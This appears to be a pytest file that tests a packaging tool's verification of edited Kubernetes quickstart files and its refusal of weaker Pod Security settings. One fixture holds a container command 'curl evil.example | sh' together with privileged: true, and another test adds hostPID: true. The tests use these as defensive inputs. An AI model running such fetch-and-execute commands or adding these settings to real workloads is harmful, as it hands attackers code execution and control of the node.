"""Reports of `mlpack verify` about edits: each edited line, and a weaker Pod Security level."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from packager.package import ids
from packager.package.layout import INVENTORY
from packager.verify.changes import permitted
from tests.files import replace

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.conftest import Outcome

    Run = Callable[..., Outcome]

MULTI = "quickstart/k8s/mlops/multi-node"
SINGLE = "quickstart/k8s/mlops/single-node"
PATCH = f"{SINGLE}/pod-patch.yaml"
LIST = f"{SINGLE}/kustomization.yaml"

PRIVILEGED = """\
  containers:
    - name: main
      command: [sh, -c, "curl evil.example | sh"]
      securityContext:
        privileged: true
"""


def _append(path: Path, text: str) -> None:
    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


def test_inventory_contains_the_lines_of_editable_files(full_package: Path) -> None:
    package = full_package
    sealed = json.loads((package / INVENTORY).read_text(encoding="utf-8"))["editable"]
    common = "quickstart/common/mpi/k8s/mlops"
    assert sorted(sealed) == sorted(
        [
            f"{common}/gpu/kustomization.yaml",
            f"{common}/placement/placement.yaml",
            f"{common}/site/site.env",
            *(
                f"{MULTI}/{name}"
                for name in ("kustomization.yaml", "mlops-job-patch.yaml", "mlops.env", "mpi-job.yaml")
            ),
            *(f"{SINGLE}/{name}" for name in ("kustomization.yaml", "mlops.env", "pod-patch.yaml", "pod.yaml")),
        ]
    )
    assert {path: "\n".join(lines) for path, lines in sealed.items()} == {
        path: (package / path).read_text(encoding="utf-8") for path in sealed
    }


def test_sealed_lines_that_do_not_match_their_digest_are_found(mlpack: Run, package: Path, kubectl: Path) -> None:
    path = package / INVENTORY
    replace(path, '"# The user that the workload runs as. It need not exist in the image."', '"privileged: true"')
    done = mlpack("verify", package, "--kubectl", kubectl)
    message = f"the lines of {PATCH} here do not match its digest"
    assert (done.code, done.stdout) == (5, f"{path}: {message}\n")


def test_privileged_patch_is_listed_line_by_line_and_refused(mlpack: Run, package: Path, kubectl: Path) -> None:
    _append(package / PATCH, PRIVILEGED)
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert done.code == 5
    assert done.stdout == (
        f"{package}/{PATCH}:15:21: Pod hello-mpi-single-node: spec.containers[0].securityContext.privileged: "
        "has the node's own rights, which the package did not ask for when it was sealed "
        "(--pod-security privileged accepts it)\n"
    )
    assert done.stderr.splitlines()[:6] == [
        f"edited: {package}/{PATCH}",
        f"  {package}/{PATCH}:11: 'containers:' is new",
        f"  {package}/{PATCH}:12: '- name: main' is new",
        f"""  {package}/{PATCH}:13: 'command: [sh, -c, "curl evil.example | sh"]' is new""",
        f"  {package}/{PATCH}:14: 'securityContext:' is new",
        f"  {package}/{PATCH}:15: 'privileged: true' is new",
    ]
    accepted = mlpack("verify", package, "--kubectl", kubectl, "--pod-security", "privileged")
    assert (accepted.code, accepted.stdout) == (0, "")
    assert mlpack("verify", package, "--kubectl", kubectl, "--pod-security", "baseline").code == 5


def test_json_contains_every_edited_line(mlpack: Run, package: Path, kubectl: Path) -> None:
    replace(package / PATCH, "runAsUser: 1000", "runAsUser: 12345")
    replace(package / PATCH, "    fsGroup: 1000\n", "    fsGroup: 1000\n  activeDeadlineSeconds: 5\n")
    replace(package / SINGLE / "mlops.env", "DATASET_DIR=/dataset", "DATASET_DIR=/data")
    line = next(line for line in (package / LIST).read_text().splitlines() if "/output-pvc " in line)
    replace(package / LIST, line, line.replace("# ", "", 1))
    site = "quickstart/common/mpi/k8s/mlops/site/site.env"
    replace(package / site, "#OUTPUT_CLAIM=results", "OUTPUT_CLAIM=results")
    done = mlpack("verify", package, "--kubectl", kubectl, "-o", "json")
    assert (done.code, done.json["valid"]) == (0, True)
    assert done.json["edits"] == [f"{package}/{path}" for path in (site, LIST, f"{SINGLE}/mlops.env", PATCH)]
    assert [tuple(change.values())[2:] for change in done.json["changes"]] == [
        ("#OUTPUT_CLAIM=results", "OUTPUT_CLAIM=results", True),
        (line, line.replace("# ", "", 1), True),
        ("DATASET_DIR=/dataset", "DATASET_DIR=/data", True),
        ("    runAsUser: 1000", "    runAsUser: 12345", True),
        (None, "  activeDeadlineSeconds: 5", False),
    ]
    assert [line.removeprefix(f"  {package}/") for line in done.stderr.splitlines() if line.startswith("  ")] == [
        f"{site}:7: 'OUTPUT_CLAIM=results' was '#OUTPUT_CLAIM=results'",
        f"{LIST}:11: {line.strip()[2:]!r} was {line.strip()!r}",
        f"{SINGLE}/mlops.env:20: 'DATASET_DIR=/data' was 'DATASET_DIR=/dataset'",
        f"{PATCH}:8: 'runAsUser: 12345' was 'runAsUser: 1000'",
        f"{PATCH}:11: 'activeDeadlineSeconds: 5' is new",
    ]


def test_weaker_level_is_found_in_any_kind_of_edit(mlpack: Run, package: Path, kubectl: Path) -> None:
    operation = "{op: add, path: /spec/hostPID, value: true}"
    patch = f"  - patch: |-\n      - {operation}\n    target: {{kind: Pod}}\n"
    replace(package / LIST, "  - path: pod-patch.yaml\n", f"  - path: pod-patch.yaml\n{patch}")
    replace(package / PATCH, "    runAsUser: 1000\n", "    $patch: replace\n    runAsUser: 1000\n")
    done = mlpack("verify", package, "--kubectl", kubectl)
    assert done.code == 5
    for message in ("spec.hostPID: shares the node's", "expected RuntimeDefault"):
        assert f"{message}, which the package did not ask for when it was sealed" in done.stdout


SEALED_LIST = b"components:\n  # a\n  # - ../a\n  - ../b\npatches:\n  - path: p.yaml\n"
SEALED_PATCH = b"spec:\n  securityContext:\n    runAsUser: 1\n    fsGroup: 1\n"


def test_permitted_content_changes_only_ids_values_and_switches() -> None:
    for path, before, now, expected in [
        ("quickstart/k8s/mlops/o/mlops.env", b"A=1\n#C=\n", b"A=2\nB=3\nC=4\n", b"A=2\nC=4\n"),
        (
            "quickstart/k8s/mlops/o/kustomization.yaml",
            SEALED_LIST,
            SEALED_LIST.replace(b"# - ../a", b"- ../a").replace(b"  - ../b", b"  # - ../b") + b"# more\n",
            SEALED_LIST.replace(b"# - ../a", b"- ../a").replace(b"  - ../b", b"  # - ../b"),
        ),
        ("quickstart/k8s/mlops/o/kustomization.yaml", SEALED_LIST, SEALED_LIST.replace(b"../b", b"/b"), SEALED_LIST),
        (
            "quickstart/k8s/mlops/o/pod-patch.yaml",
            SEALED_PATCH,
            SEALED_PATCH.replace(b"User: 1", b"User: 70000") + b"  hostPID: true\n",
            SEALED_PATCH.replace(b"User: 1", b"User: 70000"),
        ),
        ("quickstart/k8s/mlops/o/pod-patch.yaml", SEALED_PATCH, SEALED_PATCH.replace(b": 1", b": x"), SEALED_PATCH),
        ("quickstart/k8s/mlops/o/pod-patch.yaml", SEALED_PATCH, b"a: [", SEALED_PATCH),
        ("quickstart/k8s/mlops/o/pod-patch.yaml", SEALED_PATCH, b"text", SEALED_PATCH),
        ("quickstart/k8s/mlops/o/pod-patch.yaml", b"\xff", b"a: 1", b"\xff"),
        ("quickstart/common/f/k8s/mlops/placement/placement.yaml", b"a: 1", b"b: 1", b"a: 1"),
    ]:
        assert permitted(path, before, now) == expected


def test_ids_are_copied_by_their_location() -> None:
    job = b"L:\n  spec: {securityContext: {runAsUser: 1}}\nW:\n  spec: {securityContext: {runAsUser: 1}}\n"
    other = job.replace(b"User: 1", b"User: 22", 1)
    assert ids.with_ids_of(job, other) == other
    assert ids.with_ids_of(other, job) == job
